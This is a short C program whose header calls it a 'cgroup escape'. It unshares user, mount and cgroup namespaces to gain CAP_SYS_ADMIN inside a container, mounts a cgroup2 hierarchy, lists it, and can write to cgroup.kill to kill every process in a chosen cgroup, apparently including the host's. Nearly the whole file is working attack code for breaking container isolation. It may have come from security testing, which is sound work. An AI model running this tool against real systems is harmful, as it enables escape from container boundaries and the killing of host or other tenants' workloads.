/* The cgroup escape: mount a cgroup2 hierarchy and reach the host's cgroups through it.
 *   cgroupns [--userns] ls DIR          list the mounted hierarchy's root
 *   cgroupns [--userns] kill DIR REL    write 1 to REL/cgroup.kill below that root
 * With --userns it first unshares a user, mount and cgroup namespace, which gives
 * CAP_SYS_ADMIN over the new namespaces to a container that has none; without it the
 * container needs CAP_SYS_ADMIN itself. The hierarchy is mounted on DIR.
 * A failure prints "STEP: strerror" on stderr and exits 1. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <unistd.h>

static int fail(const char *step) {
    fprintf(stderr, "%s: %s\n", step, strerror(errno));
    return 1;
}

int main(int argc, char **argv) {
    int arg = 1;
    if (argc > arg && strcmp(argv[arg], "--userns") == 0) {
        if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) < 0)
            return fail("unshare");
        arg++;
    }
    if (argc < arg + 2)
        return 2;
    const char *mode = argv[arg], *dir = argv[arg + 1];
    if (mount("none", dir, "cgroup2", 0, NULL) < 0)
        return fail("mount");
    if (strcmp(mode, "ls") == 0) {
        DIR *d = opendir(dir);
        if (d == NULL)
            return fail("opendir");
        struct dirent *entry;
        while ((entry = readdir(d)) != NULL)
            printf("%s\n", entry->d_name);
        return 0;
    }
    if (strcmp(mode, "kill") == 0 && argc == arg + 3) {
        char path[4096];
        snprintf(path, sizeof path, "%s/%s/cgroup.kill", dir, argv[arg + 2]);
        int fd = open(path, O_WRONLY);
        if (fd < 0)
            return fail("open");
        if (write(fd, "1", 1) < 0)
            return fail("write");
        return 0;
    }
    return 2;
}
